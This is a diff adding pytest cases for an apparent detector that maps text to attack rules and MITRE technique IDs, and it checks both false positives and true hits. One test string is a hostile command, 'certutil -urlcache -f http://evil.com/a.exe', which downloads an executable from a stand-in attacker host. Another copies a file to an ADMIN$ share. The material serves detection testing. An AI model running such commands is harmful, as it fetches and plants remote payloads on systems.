@@ -223,3 +223,48 @@ def test_hostile_texts_take_time_by_their_length_alone(piece: str) -> None:
     seconds(1000)
     short = max(seconds(100_000), 0.01)
     assert seconds(800_000) < 8 * short * 3
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("It asked for /wp-admin/ first. Then it asked for /admin/templates.", "smb-shares"),
+        ("The domain admin logged in. Another admin did so too.", "smb-shares"),
+        ("It is at script.google.com/macros/s/x. See https://x.com/macros too.", "visual-basic"),
+        ("Read the post on WeLiveSecurity at https://www.welivesecurity.com/x.", "http-c2"),
+        ("See https://example.com/blog/process-hollowing-in-depth.", NAME),
+    ],
+)
+def test_words_of_addresses_and_accounts_are_no_acts(text: str, rule: str) -> None:
+    assert rule not in {hit.rule for hit in ALONE.hits(text)}
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        (r"It was copied to \\HOST\ADMIN$\x.exe.", "smb-shares"),
+        ("certutil -urlcache -f http://evil.com/a.exe was run.", "download-tool"),
+    ],
+)
+def test_shares_and_loaded_urls_are_still_acts(text: str, rule: str) -> None:
+    assert rule in {hit.rule for hit in ALONE.hits(text)}
+
+
+@pytest.mark.parametrize(
+    ("text", "is_told"),
+    [
+        ("We run an office test before each release.", False),
+        ("The Office Test was a success for the vendor.", False),
+        ("The link target of the page was a file.", False),
+        ("It persists by the technique Office Test.", True),
+        ("Persistence: Office Test", True),
+        ("T1137.002 Office Test", True),
+        ("Others use Office Test.\nSee T1059.", True),
+        ("Others use an office test.\nSee T1059.", False),
+        ("It used process injection to hide.", True),
+        ("They abused group policy preferences.", True),
+    ],
+)
+def test_names_of_everyday_words_need_words_on_techniques(text: str, is_told: bool) -> None:
+    told = found(text).keys() & {"T1137.002", "T1608.005", "T1055", "T1552.006"}
+    assert bool(told) is is_told
